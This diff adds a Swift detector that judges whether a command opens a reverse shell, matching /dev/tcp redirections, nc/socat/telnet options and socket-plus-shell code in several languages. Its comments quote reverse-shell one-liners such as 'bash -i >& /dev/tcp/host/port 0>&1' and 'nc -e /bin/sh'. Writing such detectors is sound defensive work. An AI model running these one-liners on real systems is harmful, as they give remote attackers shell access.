@@ -1,0 +1,100 @@
+internal import JSONView
+
+/// Tells whether a command gives a shell to somebody over the network.
+///
+/// A shell's input or output must meet a connection: probing a port with `/dev/tcp` or forwarding one with `socat` is
+/// no match.
+enum ReverseShell {
+    static func judge(_ text: JSONText) -> Bool {
+        guard text.count > 8 else { return false }
+        let text = text.prefix(ShellScript.sizeLimit)
+        return throughDevice(text) || inOneLanguage(text) || throughTool(text)
+    }
+
+    /// `bash -i >& /dev/tcp/host/port 0>&1`, `exec 5<>/dev/tcp/…; cat <&5 | while read l; do $l …`.
+    private static func throughDevice(_ text: JSONText) -> Bool {
+        guard text.contains("/dev/tcp/") || text.contains("/dev/udp/") || text.contains("/inet/tcp/") else {
+            return false
+        }
+        if text.contains("0>&1") || text.contains("0<&1") || text.contains("0>& 1") || text.contains("<&1") {
+            return true
+        }
+        if text.contains("sh -i") { return true }
+        let opensBoth = text.contains("<>/dev/") || text.contains("<> /dev/")
+        if opensBoth, text.contains("while read") || text.contains("sh <&") || text.contains("sh 0<&") { return true }
+        return text.contains("|&getline") || text.contains("|& getline")
+    }
+
+    private static let connectors: Set<String> = ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "telnet"]
+
+    private static func throughTool(_ text: JSONText) -> Bool {
+        guard
+            text.contains("nc") || text.contains("netcat") || text.contains("socat") || text.contains("telnet")
+                || text.contains("openssl")
+        else { return false }
+        let script = ShellScript(text)
+        let commands = script.allCommands
+        if commands.contains(where: runsProgram) { return true }
+        for pipeline in script.allPipelines {
+            let connects = pipeline.commands.contains(where: isConnection)
+            let shells = pipeline.commands.contains {
+                Interpreters.isShell($0.program)
+                    && (Interpreters.runsInput($0) || $0.operands.contains("-i") || !$0.inputs.isEmpty)
+            }
+            if connects, shells { return true }
+        }
+        return false
+    }
+
+    private static func isConnection(_ command: ShellScript.Command) -> Bool {
+        if connectors.contains(command.program) { return true }
+        return command.program == "openssl" && command.operands.first == "s_client"
+    }
+
+    /// `nc -e /bin/sh …`, `ncat --sh-exec …`, `socat exec:sh tcp:…`.
+    private static func runsProgram(_ command: ShellScript.Command) -> Bool {
+        let operands = Array(command.operands)
+        if command.program == "socat" {
+            let lower = operands.map { $0.lowercased() }
+            let runs = lower.contains { ($0.hasPrefix("exec:") || $0.hasPrefix("system:")) && namesShell($0) }
+            let connects = lower.contains { operand in
+                ["tcp", "udp", "openssl", "ssl", "sctp", "vsock"].contains { operand.hasPrefix($0) }
+            }
+            return runs && connects
+        }
+        guard connectors.contains(command.program), command.program != "telnet" else { return false }
+        for (position, word) in operands.enumerated() {
+            let next = position + 1 < operands.count ? operands[position + 1] : ""
+            if word.hasPrefix("--exec=") || word.hasPrefix("--sh-exec="), namesShell(word) { return true }
+            let takesProgram =
+                word == "--exec" || word == "--sh-exec"
+                || (word.hasPrefix("-") && !word.hasPrefix("--") && (word.hasSuffix("e") || word.hasSuffix("c")))
+            if takesProgram, namesShell(next) { return true }
+        }
+        return false
+    }
+
+    private static func namesShell(_ text: String) -> Bool {
+        text.split { !($0.isLetter || $0.isNumber || $0 == "_" || $0 == "-") }.contains {
+            Interpreters.isShell(String($0)) || $0 == "cmd" || $0 == "powershell"
+        }
+    }
+
+    /// Sockets and shells in one text of Python, Perl, Ruby, PHP, Node, Lua or Java.
+    private static func inOneLanguage(_ text: JSONText) -> Bool {
+        let connects =
+            text.contains("socket.socket(") || text.contains("import socket") || text.contains("use Socket")
+            || text.contains("IO::Socket") || text.contains("TCPSocket") || text.contains("fsockopen(")
+            || text.contains("net.Socket(") || text.contains("net.connect(") || text.contains("socket.tcp(")
+            || text.contains("java.net.Socket") || text.contains("net.Dial(")
+        guard connects else { return false }
+        let shell =
+            text.contains("/bin/sh") || text.contains("/bin/bash") || text.contains("/bin/ash")
+            || text.contains("\"sh\"") || text.contains("'sh'") || text.contains("\"bash\"") || text.contains("'bash'")
+            || text.contains("sh -i")
+        let runs =
+            text.contains("dup2(") || text.contains("pty.spawn") || text.contains("subprocess") || text.contains("exec")
+            || text.contains("spawn(") || text.contains("popen") || text.contains("system(") || text.contains("%x")
+        return shell && runs
+    }
+}
